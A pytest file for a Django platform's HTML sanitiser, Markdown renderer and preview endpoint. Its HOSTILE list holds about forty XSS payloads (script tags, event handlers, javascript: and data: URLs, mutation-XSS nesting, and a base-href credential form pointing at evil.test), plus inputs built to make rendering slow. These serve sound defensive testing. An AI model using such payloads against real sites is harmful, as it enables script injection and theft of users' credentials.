"""What people write, as HTML: nothing that runs gets through, and what they meant does."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from platform_core.base import markup
from platform_core.base.markup import clean_html, plain_text, render_markdown, render_plain
from tests.factories.accounts import UserFactory

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&#58;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td><svg><desc><td><noscript><img src=x onerror=alert(1)></noscript>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    '<p style="background:url(javascript:alert(1))" class="btn" id="contingut">x</p>',
    "<style>@import 'https://evil.test/x.css';</style>",
    '<link rel=stylesheet href=https://evil.test/x.css><meta http-equiv=refresh content="0;url=//evil.test">',
    "<base href=https://evil.test/><form action=https://evil.test/><input name=password><button>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<title><img src=x onerror=alert(1)></title><textarea><script>alert(1)</script></textarea>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<a href='https://x.test' target=_top rel=opener onclick=alert(1) ping=https://evil.test>x</a>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1))",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](https://evil.test/pixel.gif)",
    "<javascript:alert(1)> [x]: javascript:alert(1)\n\n[x]",
    '[x](https://x.test "onmouseover=alert(1)") [x](<https://x.test" onmouseover="alert(1)>)',
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```html\n<script>alert(1)</script>\n```",
    "https://x.test/\"onmouseover=alert(1)// www.x.test/'><script>alert(1)</script>",
    "\0<scr\0ipt>alert(1)</script>",
]


class Seen(HTMLParser):
    """Every element and attribute of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def is_harmless(html: str) -> bool:
    for tag, attributes in Seen(html).elements:
        allowed = {"lang", "dir", "rel", "align"} | markup.ATTRIBUTES.get(tag, set())
        assert tag in markup.TAGS, tag
        assert attributes.keys() <= allowed, attributes
        if "href" in attributes:
            assert attributes["rel"] == "nofollow noopener noreferrer"
            scheme = re.match(r"[^/?#]*?:", attributes["href"] or "")
            assert scheme is None or scheme[0].lower() in {"http:", "https:", "mailto:", "tel:"}
        if "src" in attributes:
            assert (attributes["src"] or "").lower().startswith("cid:")
    return True


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_gets_through(text: str):
    rendered = (render_markdown(text), render_markdown(f"> - {text}"), render_plain(text))
    for html in (clean_html(text), clean_html(f"<div>{text}"), *rendered):
        assert is_harmless(html)
        assert clean_html(html) == clean_html(clean_html(html)), "a second look changes nothing: no mutation"


PIECES = [
    "<",
    ">",
    '"',
    "'",
    "&",
    "=",
    "/",
    " ",
    "\n",
    "`",
    "*",
    "[",
    "](",
    ")",
    "!",
    "|",
    "- ",
    "> ",
    "# ",
    "www.a.cat",
]
PIECES += [
    "<svg>",
    "</svg>",
    "<math>",
    "<style>",
    "</style>",
    "<p",
    "<img src=x onerror=x",
    "<a href=",
    "javascript:",
    "-->",
]
PIECES += [
    "<!--",
    "<table>",
    "<td>",
    "<noscript>",
    "<script>",
    "</script>",
    "cid:a",
    "data:",
    "é",
    "\0",
    "<form>",
    "title=",
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=30).map("".join))
def test_no_text_yields_an_element_or_attribute_that_is_not_on_the_list(text: str):
    assert is_harmless(clean_html(text))
    assert is_harmless(render_markdown(text))
    assert is_harmless(render_plain(text))
    assert len(plain_text(text, length=40)) <= 40


def test_markdown_says_what_its_writer_meant():
    html = render_markdown(
        "línia u\nlínia **dos** ~~tres~~\n\n- a\n- b\n\n3. c\n\n> cita\n\n`codi` [enllaç](https://x.test/a?b=1&c=2)"
    )
    for part in [
        "<p>línia u<br>\nlínia <strong>dos</strong> <s>tres</s></p>",
        "<ul>\n<li>a</li>\n<li>b</li>\n</ul>",
        '<ol start="3">\n<li>c</li>\n</ol>',
        "<blockquote>\n<p>cita</p>\n</blockquote>",
        '<code>codi</code> <a href="https://x.test/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">enllaç</a>',
    ]:
        assert part in html


def test_raw_html_is_shown_as_it_was_typed():
    assert render_markdown('<b onclick="x">hola</b>') == '<p>&lt;b onclick="x"&gt;hola&lt;/b&gt;</p>\n'


def test_lines_of_code_stay_as_they_are():
    assert render_markdown("```py\nif a < b:\n    c()\n```") == "<pre><code>if a &lt; b:\n    c()\n</code></pre>\n"


def test_headings_stand_below_those_of_the_page():
    assert render_markdown("# u\n\n## dos\n\n###### sis") == "<h3>u</h3>\n<h4>dos</h4>\n<h6>sis</h6>\n"


def test_the_columns_of_a_table_are_aligned_without_a_style():
    html = render_markdown("|a|b|\n|:--|--:|\n|1|2|")
    assert '<th align="left">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("mireu https://decidim.test/a_b_c.", "https://decidim.test/a_b_c"),
        ("(http://x.test/a(b))", "http://x.test/a(b)"),
        ("a www.diba.cat/avis, i", "https://www.diba.cat/avis"),
        ("escriviu a suport@x.cat", "mailto:suport@x.cat"),
    ],
)
def test_a_bare_address_is_a_link(text: str, address: str):
    assert [attributes["href"] for tag, attributes in Seen(render_markdown(text)).elements if tag == "a"] == [address]


@pytest.mark.parametrize(
    "text", ["l'hem enviat.La resposta", "versió 1.2.3.4", "fitxer.es", "//x.test", "ftp://x.test", "www."]
)
def test_what_only_looks_like_an_address_is_none(text: str):
    assert "<a" not in render_markdown(text)


def test_a_link_into_our_own_pages_works_in_markdown_and_not_in_a_mail():
    assert 'href="/suport/"' in render_markdown("[el tiquet](/suport/)")
    assert clean_html('<a href="/compte/logout/">x</a>') == '<a rel="nofollow noopener noreferrer">x</a>'


def test_a_mail_keeps_its_text_tables_languages_and_the_pictures_that_came_with_it():
    html = clean_html(
        '<html><head><title>t</title><style>p{}</style></head><body bgcolor=red><p lang="es" class="MsoNormal">Hola'
        '<o:p> </o:p></p><table border=1><tr><td colspan="2" style="x">a</td></tr></table>'
        '<img src="cid:foto@1" alt="foto">'
        '<img src="https://track.test/p.gif" alt="logo" width=1>'
    )
    assert html == (
        '<p lang="es">Hola </p><table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'
        '<img src="cid:foto@1" alt="foto"><img alt="logo">'
    )


@pytest.mark.parametrize(
    "text",
    [
        *("[" * 30_000, "![" * 15_000, "*a " * 10_000, "www." * 10_000, "a@" * 15_000, "> " * 15_000, "`a" * 15_000),
        *("http://" * 6_000, "mailto:" * 6_000, "<" * 30_000, "- " * 15_000, "\\" * 30_000),
        "|" * 15_000 + "\n" + "|-" * 15_000,
    ],
    ids=lambda text: text[:8],
)
def test_text_made_to_take_long_is_rendered_all_the_same(text: str):
    assert is_harmless(render_markdown(text))
    assert is_harmless(render_plain(text))
    assert len(plain_text(text)) <= 200


@pytest.mark.parametrize(
    "html",
    [
        *("<div>" * 50_000 + "fi", "<b>" * 50_000 + "fi", "<table>" * 50_000 + "fi", "<p>" * 50_000 + "fi"),
        *("<svg>" * 50_000, "<a><b>" * 50_000 + "fi", "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">fi"),
    ],
    ids=lambda html: html[:8],
)
def test_html_made_to_take_long_is_cleaned_all_the_same(html: str):
    assert is_harmless(clean_html(html))


def test_a_text_beyond_all_measure_is_shown_as_it_was_written():
    text = "**a** <b>\n" * 20_000
    assert render_markdown(text).startswith("<pre>**a** &lt;b&gt;\n")
    assert render_plain(text).startswith("<pre>**a** &lt;b&gt;\n")


def test_in_plain_text_only_paragraphs_lines_and_addresses_mean_something():
    text = "# 1\n* un\n7. *dos* `tres` \\_ &amp; <b>\n    [a](b)\n> c\n---\n\nd: https://x.test/a_b_c?d=1&e=2."
    address = "https://x.test/a_b_c?d=1&amp;e=2"
    assert render_plain(text) == (
        "<p># 1<br>\n* un<br>\n7. *dos* `tres` \\_ &amp;amp; &lt;b&gt;<br>\n[a](b)<br>\n&gt; c<br>\n---</p>\n"
        f'<p>d: <a href="{address}" rel="nofollow noopener noreferrer">{address}</a>.</p>\n'
    )


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("# Títol\n\nUn **mot** i [un enllaç](https://x.test)\nsegona", "Títol Un mot i un enllaç segona"),
        ("- a\n- `b`\n\n```\nc\n```", "a b c"),
        ("![una foto](https://x.test/p.png)", "una foto"),
        ("", ""),
    ],
)
def test_an_excerpt_has_the_words_without_the_signs(text: str, line: str):
    assert plain_text(text) == line


def test_an_excerpt_ends_at_a_word():
    assert plain_text("un dos tres quatre cinc", length=12) == "un dos tres…"
    assert plain_text("x" * 50, length=10) == "x" * 9 + "…"


def test_templates_have_them_as_filters():
    template = Template(
        "{% load markup %}{{ text|markdown }}{{ text|plain }}|{{ text|excerpt }}|{{ nothing|markdown }}"
    )
    page = template.render(Context({"text": "**a** <i>b</i>", "nothing": None}))
    assert (
        page
        == "<p><strong>a</strong> &lt;i&gt;b&lt;/i&gt;</p>\n<p>**a** &lt;i&gt;b&lt;/i&gt;</p>\n|a &lt;i&gt;b&lt;/i&gt;|"
    )


@pytest.mark.django_db
class TestPreview:
    def test_shows_the_text_as_the_page_will(self, client: Client):
        client.force_login(UserFactory())
        response = client.post("/text/vista-previa/", {"text": "**hola**<script>"})
        assert response.status_code == 200
        assert response.content.decode() == "<p><strong>hola</strong>&lt;script&gt;</p>\n"
        assert "no-store" in response["Cache-Control"]

    def test_is_for_who_is_signed_in(self, client: Client):
        response = client.post("/text/vista-previa/", {"text": "hola"})
        assert response.status_code == 403
        assert response["Content-Type"].startswith("text/plain")

    def test_refuses_a_text_that_is_too_long_and_says_how_long_it_may_be(self, client: Client):
        client.force_login(UserFactory())
        response = client.post("/text/vista-previa/", {"text": "a" * 50_001})
        assert response.status_code == 413
        assert "50000" in response.content.decode()

    def test_takes_no_request_from_elsewhere(self):
        client = Client(enforce_csrf_checks=True)
        client.force_login(UserFactory())
        assert client.post("/text/vista-previa/", {"text": "hola"}).status_code == 403
        assert client.get("/text/vista-previa/").status_code == 405
